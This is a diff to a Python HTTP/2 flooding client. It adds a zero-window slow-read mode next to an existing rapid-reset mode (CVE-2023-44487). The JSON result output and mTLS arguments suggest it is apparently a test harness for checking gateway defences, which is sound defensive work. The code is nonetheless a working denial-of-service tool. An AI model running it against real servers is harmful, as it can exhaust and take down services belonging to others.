@@ -1,24 +1,33 @@
 """An HTTP/2 client that floods a gateway the way attackers do, built on the
 `h2` package (hyper's Python sibling, a sans-IO HTTP/2 state machine).
 
-Usage: h2_flood.py rapid-reset HOST PORT CA CERT KEY COUNT
+Usage: h2_flood.py MODE HOST PORT CA CERT KEY COUNT
 
 rapid-reset: opens COUNT streams, each HEADERS immediately followed by
 RST_STREAM(CANCEL) (CVE-2023-44487), all in one write, then reads until
 the server ends the connection. Prints one JSON line: how the connection
 ended (`goaway_error`: the GOAWAY error code, or null; `closed`: the
 server closed the TCP connection) and how many streams were sent.
+
+zero-window: announces a stream window of 0 and asks for COUNT bytes, so
+the server can send the response's HEADERS but no DATA, then waits (up
+to 20 s) for the server to give up on the stream. Prints one JSON line:
+`status` (the response's), `data` (bytes received), `reset_error` (the
+RST_STREAM error code, or null) and `seconds` until then.
 """
 
 import json
 import socket
 import ssl
 import sys
+import time
 
 import h2.config
 import h2.connection
 import h2.events
 import h2.errors
+import h2.exceptions
+import h2.settings
 
 
 def connect(host, port, ca, cert, key):
@@ -80,11 +89,51 @@ def rapid_reset(host, port, ca, cert, key, count):
     return {"goaway_error": goaway, "closed": closed, "sent": sent}
 
 
+def zero_window(host, port, ca, cert, key, count):
+    tls, conn = connect(host, port, ca, cert, key)
+    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
+    conn.send_headers(
+        1,
+        [
+            (":method", "GET"),
+            (":path", f"/bytes/{count}"),
+            (":scheme", "https"),
+            (":authority", f"{host}:{port}"),
+        ],
+        end_stream=True,
+    )
+    tls.sendall(conn.data_to_send())
+    started = time.monotonic()
+    tls.settimeout(20)
+    out = {"status": None, "data": 0, "reset_error": None, "seconds": None}
+    while time.monotonic() - started < 20:
+        try:
+            data = tls.recv(65536)
+        except (socket.timeout, OSError):
+            break
+        if not data:
+            break
+        for event in conn.receive_data(data):
+            if isinstance(event, h2.events.ResponseReceived):
+                out["status"] = int(dict(event.headers)[b":status"])
+            elif isinstance(event, h2.events.DataReceived):
+                out["data"] += len(event.data)
+            elif isinstance(event, h2.events.StreamReset) and event.stream_id == 1:
+                out["reset_error"] = int(event.error_code)
+                out["seconds"] = round(time.monotonic() - started, 2)
+                return out
+        pending = conn.data_to_send()
+        if pending:
+            tls.sendall(pending)
+    return out
+
+
 def main():
     mode, host, port, ca, cert, key, count = sys.argv[1:8]
-    if mode != "rapid-reset":
+    modes = {"rapid-reset": rapid_reset, "zero-window": zero_window}
+    if mode not in modes:
         raise SystemExit(f"unknown mode {mode}")
-    print(json.dumps(rapid_reset(host, port, ca, cert, key, int(count))))
+    print(json.dumps(modes[mode](host, port, ca, cert, key, int(count))))
 
 
 if __name__ == "__main__":
